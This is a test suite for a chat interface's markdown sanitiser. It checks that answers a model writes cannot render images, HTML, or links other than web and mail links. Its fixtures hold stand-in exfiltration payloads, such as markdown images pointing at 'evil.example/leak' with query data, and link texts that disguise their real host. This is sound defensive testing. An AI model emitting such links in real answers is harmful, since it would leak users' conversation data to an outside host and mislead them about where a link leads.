import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from orchat.ui.markdown import presentable
from tests.ui.markdown_corpus import HOSTILE_LINKS, NASTY

BROWSER = MarkdownIt("commonmark", {"maxNesting": 200}).enable(["table", "strikethrough"])
# Readers that differ in what they know; an image that only one of them sees must not be there either.
READERS = [
    BROWSER,
    MarkdownIt("commonmark", {"maxNesting": 200}),
    MarkdownIt("commonmark", {"html": False, "maxNesting": 200}).enable(["table", "strikethrough"]),
]
BASE = "http://evil.example"

FRAGMENTS = [
    *("![", "[", "]", "](", "](http://evil.example/leak)", ")", "](<", ">)", "]: ", "[r]", "[^1]: ", "!", "("),
    *("![x](http://e.x/y)", "![x][r]", "[r]: http://evil.example/leak", "`", "``", "```", "~~~", "~", "$", "$$"),
    *("\\(", "\\)", "\\[", "\\]", "\\", "\n", "\n\n", "\n    ", "\n\t", "\n- ", "\n> ", "\n# ", "\n1. ", "\n==="),
    *("\n---", "|", "\n|---|---|\n", "\n|-|\n", "a", "b c", " ", "<", ">", "<div>", "<!--", "-->", "<http://a.b/"),
    *("http://a.b/", "www.a.b/", "https://", ":", ":red[", ":::", ":a{", "}", '"', "'", "&#33;", "&lt;", "mermaid"),
    *("javascript:", "data:text/html,x", "*", "**", "_", "\r", "\0", "\x85", "\u2028", "\u00a0"),
]
markdown = st.one_of(
    st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join),
    st.text(alphabet="![]()<>`$\\~:\n |-#\"'ab&/", max_size=80),
    st.tuples(st.sampled_from(NASTY), st.sampled_from(NASTY), st.sampled_from(FRAGMENTS)).map(
        lambda parts: (parts[0] + parts[2] + parts[1]).replace("{base}", BASE)
    ),
)


def tokens(reader: MarkdownIt, text: str) -> list[Token]:
    found = []
    for token in reader.parse(text):
        found += [token, *(token.children or [])]
    return found


def images(text: str) -> list[Token]:
    return [token for reader in READERS for token in tokens(reader, text) if token.type == "image"]


def addresses(text: str) -> set[str]:
    return {str(token.attrs["href"]) for token in tokens(BROWSER, text) if token.type == "link_open"}


@pytest.mark.parametrize("answer", NASTY)
def test_ai_dial_chat_7109_dust_12359_dify_30874_no_spelling_of_an_image_survives(answer: str):
    assert images(presentable(answer.format(base=BASE))) == []


@pytest.mark.parametrize("answer", NASTY)
def test_no_image_survives_wherever_a_streaming_answer_is_cut(answer: str):
    text = answer.format(base=BASE)
    for end in range(len(text)):
        assert images(presentable(text[:end], open=True)) == []


@given(text=markdown, unfinished=st.booleans())
@example(text="Wow!![x](http://evil.example/leak)", unfinished=False)
def test_whatever_a_model_writes_holds_no_image_no_html_and_only_web_and_mail_links(text: str, unfinished: bool):
    shown = presentable(text, open=unfinished)
    assert images(shown) == [], shown
    assert not any(token.type.startswith("html") for token in tokens(BROWSER, shown)), shown
    for address in addresses(shown):
        assert re.match(r"(?:https?://[^/]|mailto:)", address, re.IGNORECASE), shown


@given(text=markdown)
def test_what_was_made_presentable_can_safely_be_made_presentable_again(text: str):
    assert images(presentable(presentable(text))) == []


@given(text=markdown)
def test_what_streamlit_strips_from_the_text_changes_nothing(text: str):
    shown = presentable(text)
    assert shown == shown.lstrip()


@pytest.mark.parametrize("answer", HOSTILE_LINKS)
def test_cve_2025_64495_a_link_to_anything_but_web_or_mail_is_text(answer: str):
    assert addresses(presentable(answer)) == set()


@pytest.mark.parametrize(
    "answer, address",
    [
        ("[a](https://example.org/b?c=d#e)", "https://example.org/b?c=d#e"),
        ("[a](<https://example.org/b c> 'title')", "https://example.org/b%20c"),
        ("[a](HTTP://EXAMPLE.ORG)", "HTTP://EXAMPLE.ORG"),
        ("[a](mailto:a@example.org)", "mailto:a@example.org"),
        ("<https://example.org>", "https://example.org"),
        ("[a][r]\n\n[r]: https://example.org/r", "https://example.org/r"),
        ("[r]\n\n[R]: https://example.org/r", "https://example.org/r"),
        ("[a](https://en.example.org/wiki/B_(c))", "https://en.example.org/wiki/B_(c)"),
        ("[a](http://[::1]:8501/x)", "http://[::1]:8501/x"),
        ("- [a `b]` c](https://example.org)", "https://example.org"),
    ],
)
def test_a_web_or_mail_link_stays_a_link(answer: str, address: str):
    assert {address} == addresses(presentable(answer))


def test_an_image_becomes_a_link_that_names_its_host():
    shown = presentable("See ![the *chart*](https://evil.example/leak?q=1 'title').")
    assert shown == r"See [🖼 the \*chart\* (evil.example)](https://evil.example/leak?q=1)."


def test_the_host_named_is_the_one_that_would_be_contacted():
    assert "(evil.example)](" in presentable("![x](https://good.example@evil.example/a)")
    assert "(evil.example)](" in presentable(r"![x](<https://good.example\\@evil.example/a>)")


def test_an_image_inside_a_link_leaves_the_link():
    shown = presentable("[![build](https://img.example/b.svg)](https://ci.example)")
    assert shown == "[🖼 build (img.example)](https://ci.example) (ci.example)"


def test_an_image_without_a_web_address_is_only_described():
    assert presentable("![dot](data:image/png;base64,iVBORw0KGgo=) ![local](a.png)") == "🖼 dot 🖼 local"


def test_a_reference_to_a_definition_of_another_block_is_text():
    assert presentable("See [the docs][1].") == "See [the docs][1]."


def test_a_definition_is_shown_so_that_references_from_other_blocks_can_be_followed():
    shown = presentable("[1]: https://example.org/docs")
    assert tokens(BROWSER, shown)[1].content == r"[1]\: https://example.org/docs"


@pytest.mark.parametrize("html", ["<b>x</b>", "<img src=x>", "<!-- x -->", "<div>\nx\n</div>", r"\<i>"])
def test_html_is_text(html: str):
    shown = presentable(html)
    assert not re.search(r"<[A-Za-z/!?]", shown)
    assert "&lt;" in shown


@pytest.mark.parametrize("item", ["- \n\t", "-\n\n\t", "2. x\n\n   ", "> 3)\n>   "])
def test_code_in_a_list_that_browsers_may_not_see_holds_no_image(item: str):
    assert "![" not in presentable(f"a\n\n    code\n{item}``` ![x](http://evil.example/leak)")


def test_the_address_of_a_half_arrived_image_is_not_shown():
    assert presentable("Here ![x](http://evil.example/leak?q=sec", open=True) == "Here 🖼 x"
    assert presentable("Here ![x y", open=True) == "Here 🖼 x y"


def test_a_half_arrived_link_is_left_for_streamlit_to_complete():
    assert presentable("See [docs](https://exam", open=True) == "See [docs](https://exam"


@pytest.mark.parametrize(
    "unit", ["[", "![", "[a](", "![a](b", "`", "$a ", "\\[\n", "$$\n", "> ", "<http://a", ":a", "|a\n"]
)
def test_hostile_repetition_does_no_harm(unit: str):
    assert images(presentable(unit * 2_000)) == []


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("[here](https://evil.example/x)", "[here](https://evil.example/x) (evil.example)"),
        (
            "[https://bank.example/evil.example](https://evil.example)",
            "[https\\://bank.example/evil.example](https://evil.example) (evil.example)",
        ),
        ("[**the bank**](http://u@evil.example:80/)", "[**the bank**](http://u@evil.example:80/) (evil.example)"),
        ("[evil.example](https://evil.example/x)", "[evil.example](https://evil.example/x)"),
        ("[https://evil.example/y](https://evil.example/x)", "[https\\://evil.example/y](https://evil.example/x)"),
        ("[write](mailto:a@b.example)", "[write](mailto:a@b.example)"),
    ],
)
def test_ai_dial_chat_7109_dust_12359_dify_30874_a_link_shows_the_host_that_it_leads_to_unless_it_says_so_itself(
    answer: str, shown: str
):
    assert presentable(answer) == shown
